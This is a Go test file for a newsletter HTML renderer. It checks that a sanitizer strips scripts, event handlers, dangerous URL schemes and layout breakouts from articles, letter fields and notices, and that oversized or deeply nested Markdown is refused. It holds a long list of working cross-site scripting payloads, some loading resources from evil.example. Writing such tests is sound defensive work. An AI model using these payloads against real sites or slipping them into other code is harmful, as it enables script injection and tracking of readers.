package render_test

import (
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"

	"pressrun/newsletter/render"
)

// payloads try to run a script, load something or break out of their place.
var payloads = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="https://evil.example/pixel.gif">`,
	`<svg onload=alert(1)><script>alert(1)</script></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	"<a href=\"java\tscript:alert(1)\">x</a>",
	`<a href="&#106;avascript:alert(1)">x</a>`,
	`<a href="&#x6A;&#x61;vascript:alert(1)">x</a>`,
	`<a href=" javascript:alert(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="https://example.org" onmouseover="alert(1)" style="position:fixed">x</a>`,
	`[x](javascript:alert(1))`,
	`[x](<javascript:alert(1)>)`,
	`[x](java&#10;script:alert(1))`,
	`[x](&#106;avascript:alert(1))`,
	`[x](data:text/html,<script>alert(1)</script>)`,
	`[x]: javascript:alert(1)` + "\n\n[x]",
	`![x](javascript:alert(1))`,
	`![x](https://evil.example/pixel.gif "t")`,
	`![x" onerror="alert(1)](https://example.org/a.png)`,
	`<javascript:alert(1)>`,
	`<iframe src="https://evil.example"></iframe>`,
	`<object data="x"></object><embed src="x">`,
	`<form action="https://evil.example"><input name=a><button>b</button></form>`,
	`<base href="https://evil.example/">`,
	`<meta http-equiv=refresh content="0;url=https://evil.example">`,
	`<link rel=stylesheet href="https://evil.example/x.css">`,
	`<style>@import "https://evil.example/x.css";</style>`,
	`<style>body{background:url(https://evil.example/x)}</style>`,
	`<div style="background:url(https://evil.example/x)">x</div>`,
	`</style><script>alert(1)</script>`,
	`</title><script>alert(1)</script>`,
	`</td></tr></table></body></html><script>alert(1)</script>`,
	`--><script>alert(1)</script><!--`,
	`<![endif]--><script>alert(1)</script><!--[if mso]>`,
	`<!--[if mso]><script>alert(1)</script><![endif]-->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?php echo 1 ?><!DOCTYPE x [<!ENTITY y "z">]>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<textarea><script>alert(1)</script>`,
	`<xmp><script>alert(1)</script></xmp>`,
	`<plaintext>`,
	`<template><script>alert(1)</script></template>`,
	`<a name="x" id="y" class="preheader">x</a>`,
	`<p id="top" class="note">x</p>`,
	`"><script>alert(1)</script>`,
	`' onmouseover='alert(1)`,
	"`onerror=alert(1)`",
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	"```\n</code></pre><script>alert(1)</script>\n```",
	"| a |\n| - |\n| <script>alert(1)</script> |",
	"[^1]\n\n[^1]: <script>alert(1)</script>",
	"# <script>alert(1)</script>",
	`{{"<script>alert(1)</script>"}}`,
	"\u202e\u2066<script>alert(1)</script>",
	"\ufeff<script\u0000>alert(1)</script\u0000>",
}

// allowed is every element that a mail or an archived article may hold.
var allowed = []atom.Atom{
	atom.Html, atom.Head, atom.Meta, atom.Title, atom.Style, atom.Body, atom.Div, atom.Table, atom.Thead, atom.Tbody, atom.Tfoot, atom.Tr, atom.Th, atom.Td,
	atom.P, atom.Br, atom.Hr, atom.H1, atom.H2, atom.H3, atom.H4, atom.H5, atom.H6, atom.Blockquote, atom.Pre, atom.Code, atom.Kbd, atom.Samp, atom.Var,
	atom.Ul, atom.Ol, atom.Li, atom.Dl, atom.Dt, atom.Dd, atom.Strong, atom.Em, atom.B, atom.I, atom.U, atom.S, atom.Del, atom.Ins, atom.Sub, atom.Sup,
	atom.Small, atom.Mark, atom.Q, atom.Cite, atom.Abbr, atom.Caption, atom.A, atom.Span,
}

var allowedAttributes = []string{
	"href", "class", "id", "style", "lang", "dir", "role", "aria-label", "align", "valign", "width", "border", "cellpadding", "cellspacing", "bgcolor",
	"scope", "start", "title", "colspan", "rowspan", "xmlns", "xmlns:o", "name", "content", "charset",
}

// checkSafe reports whatever could run, load or lead to where a letter doesn't lead; ours are the layout's comments.
func checkSafe(t *testing.T, what, document string, ours []string) {
	t.Helper()
	for _, c := range comments(t, document) {
		if !slices.Contains(ours, c) {
			t.Errorf("%s: a comment that isn't the layout's: %q", what, c)
		}
	}
	for n := range tree(t, document).Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		if !slices.Contains(allowed, n.DataAtom) {
			t.Errorf("%s: <%s> survived", what, n.Data)
		}
		for _, a := range n.Attr {
			value := strings.ToLower(a.Val)
			switch {
			case !slices.Contains(allowedAttributes, a.Key):
				t.Errorf("%s: the attribute %s=%q of <%s> survived", what, a.Key, a.Val, n.Data)
			case a.Key == "href":
				if u, err := url.Parse(a.Val); err != nil || !slices.Contains([]string{"https", "http", "mailto", ""}, u.Scheme) {
					t.Errorf("%s: a link to %q", what, a.Val)
				}
			case a.Key == "style" && (strings.Contains(value, "url(") || strings.Contains(value, "position") || strings.Contains(value, "expression")):
				t.Errorf("%s: the style %q", what, a.Val)
			case a.Key == "http-equiv":
				t.Errorf("%s: a meta element that acts", what)
			}
		}
	}
}

// comments are those in a document, each once.
func comments(t *testing.T, document string) []string {
	t.Helper()
	var all []string
	for n := range tree(t, document).Descendants() {
		if n.Type == html.CommentNode {
			all = append(all, n.Data)
		}
	}
	slices.Sort(all)
	return slices.Compact(all)
}

// structure counts the layout's own tables: who breaks out of a cell changes it.
func structure(t *testing.T, document string) []string {
	t.Helper()
	var classes []string
	for _, n := range find(tree(t, document), atom.Table, atom.Td, atom.Body, atom.Head) {
		if c := attr(n, "class"); attr(n, "role") != "" || strings.Contains(c, "pad") {
			classes = append(classes, n.Data+"."+c)
		}
	}
	return classes
}

func TestNoScriptSurvivesAnArticle(t *testing.T) {
	plain := issue(t, letter("Words.")).HTML
	want, ours := structure(t, plain), comments(t, plain)
	for _, payload := range payloads {
		for _, markdown := range []string{"Words.\n\n" + payload, "Words " + payload, "* Words " + payload, "> Words\n> " + payload} {
			e, err := render.Issue(letter(markdown))
			if err != nil {
				t.Errorf("Issue(%q): %v", markdown, err)
				continue
			}
			checkSafe(t, markdown, e.HTML, ours)
			checkSafe(t, "page of "+markdown, e.ArticleHTML, ours)
			if got := structure(t, e.HTML); !slices.Equal(withoutCode(got), want) {
				t.Errorf("%q changed the layout:\n got %q\nwant %q", markdown, got, want)
			}
			if strings.Contains(e.Text, "\x00") || strings.Contains(e.Text, "\r") {
				t.Errorf("%q left control characters in the text %q", markdown, e.Text)
			}
		}
	}
}

// withoutCode leaves out the table that a code block becomes.
func withoutCode(classes []string) []string {
	return slices.DeleteFunc(classes, func(c string) bool { return c == "table.block" })
}

// Every other field is shown as it is, or refused.
func TestNoScriptSurvivesAField(t *testing.T) {
	fields := map[string]func(*render.Letter, string){
		"SiteName":          func(l *render.Letter, s string) { l.SiteName = s },
		"SeriesTitle":       func(l *render.Letter, s string) { l.SeriesTitle = s },
		"Title":             func(l *render.Letter, s string) { l.Title = s },
		"Subject":           func(l *render.Letter, s string) { l.Subject = s },
		"Preheader":         func(l *render.Letter, s string) { l.Preheader = s },
		"Disclaimer":        func(l *render.Letter, s string) { l.Disclaimer = s },
		"ArticleDisclaimer": func(l *render.Letter, s string) { l.ArticleDisclaimer = s },
		"Greeting":          func(l *render.Letter, s string) { l.Greeting = s },
		"PostalAddress":     func(l *render.Letter, s string) { l.PostalAddress = s },
		"Reason":            func(l *render.Letter, s string) { l.Reason = s },
		"Previous":          func(l *render.Letter, s string) { l.Previous = &render.Link{Title: s} },
		"Next":              func(l *render.Letter, s string) { l.Next = &render.Link{Title: s, URL: "https://example.org/"} },
		"Language":          func(l *render.Letter, s string) { l.Language = s },
		"Previous.URL":      func(l *render.Letter, s string) { l.Previous = &render.Link{Title: "Before", URL: s} },
		"BaseURL":           func(l *render.Letter, s string) { l.BaseURL = s },
		"SeriesURL":         func(l *render.Letter, s string) { l.SeriesURL = s },
		"ViewURL":           func(l *render.Letter, s string) { l.ViewURL = s },
		"PrivacyURL":        func(l *render.Letter, s string) { l.PrivacyURL = s },
		"ImprintURL":        func(l *render.Letter, s string) { l.ImprintURL = s },
		"UnsubscribeURL":    func(l *render.Letter, s string) { l.UnsubscribeURL = s },
	}
	ours := comments(t, issue(t, letter("Words.")).HTML)
	refused, shown := 0, 0
	for field, set := range fields {
		for _, payload := range payloads {
			l := letter("Words.")
			set(&l, payload)
			e, err := render.Issue(l)
			if err != nil {
				if got := badFields(err); len(got) != 1 || !strings.HasPrefix(field, got[0]) {
					t.Errorf("%s = %q: the error names %q: %v", field, payload, got, err)
				}
				refused++
				continue
			}
			shown++
			checkSafe(t, field+" = "+payload, e.HTML, ours)
			checkSafe(t, field+" = "+payload, e.ArticleHTML, ours)
			if strings.Contains(field, "URL") || field == "Language" {
				t.Errorf("%s = %q was taken", field, payload)
			}
		}
	}
	if refused == 0 || shown == 0 {
		t.Errorf("%d payloads were refused and %d shown, want some of both", refused, shown)
	}
}

func TestNoScriptSurvivesANotice(t *testing.T) {
	ours := comments(t, issue(t, letter("Words.")).HTML)
	for _, payload := range payloads {
		for name, set := range map[string]func(*render.Note){
			"SiteName":   func(n *render.Note) { n.SiteName = payload },
			"Subject":    func(n *render.Note) { n.Subject = payload },
			"Heading":    func(n *render.Note) { n.Heading = payload },
			"Paragraphs": func(n *render.Note) { n.Paragraphs = []string{payload} },
			"After":      func(n *render.Note) { n.After = []string{payload} },
			"Button":     func(n *render.Note) { n.Button.Title = payload },
			"Button.URL": func(n *render.Note) { n.Button.URL = payload },
		} {
			n := note()
			set(&n)
			if e, err := render.Notice(n); err == nil {
				checkSafe(t, name+" = "+payload, e.HTML, ours)
			}
		}
	}
}

// The bounds keep parsing short: nothing of these is rendered, and a megabyte of anything isn't even looked at.
func TestBounds(t *testing.T) {
	for _, piece := range []string{"[", "*_", "<", "(", "`", "> ", "- ", "![", "|", "a ", "<b>", "\n\n"} {
		_, err := render.Issue(letter(strings.Repeat(piece, 1<<20/len(piece))))
		if got := badFields(err); !slices.Equal(got, []string{"Markdown"}) && piece != "\n\n" {
			t.Errorf("1 MB of %q: %v, want it refused", piece, err)
		}
	}
	for name, tt := range map[string]struct{ markdown, want string }{
		"brackets":           {strings.Repeat("[", 2001), "brackets"},
		"brackets in lines":  {strings.Repeat("[[\n", 1001), "brackets"},
		"links":              {strings.Repeat("[a](", 60_000), "brackets"},
		"emphasis":           {strings.Repeat("*a_ ", 2000), "emphasis"},
		"quotes":             {strings.Repeat(">", 100_000) + "a", "nested"},
		"lists":              {strings.Repeat("- ", 100_000) + "a", "nested"},
		"numbers":            {strings.Repeat("1. ", 50_000) + "a", "nested"},
		"indented lists":     {indented(200), "nested"},
		"columns":            {"a|b\n" + strings.Repeat("-|", 100) + "\n", "columns"},
		"cells":              {"|" + strings.Repeat("a|", 50) + "\n|" + strings.Repeat("-|", 50) + "\n" + strings.Repeat("|\n", 5000), "too many parts"},
		"items":              {strings.Repeat("- a\n", 60_000), "too many parts"},
		"references":         {"[a]: /" + strings.Repeat("u", 2000) + "\n\n" + strings.Repeat("[a]\n\n", 2000), "link targets"},
		"more than Gmail's":  {strings.Repeat("Words and words. ", 8000), "102 KB"},
		"tags inside others": {strings.Repeat("<b>", 600) + "Words" + strings.Repeat("</b>", 600), "can't be shown"},
	} {
		_, err := render.Issue(letter(tt.markdown))
		if err == nil || !strings.Contains(err.Error(), tt.want) || !slices.Equal(badFields(err), []string{"Markdown"}) {
			t.Errorf("%s: error %.200v, want one about %q", name, err, tt.want)
		}
	}
	full := strings.Repeat("Forty characters of quite ordinary text. ", 1500) // 60 KB, an hour's reading
	if _, err := render.Issue(letter(full)); err != nil {
		t.Errorf("a long article: %v", err)
	}
}

func indented(depth int) string {
	var b strings.Builder
	for i := range depth {
		b.WriteString(strings.Repeat("  ", i) + "- a\n")
	}
	return b.String()
}
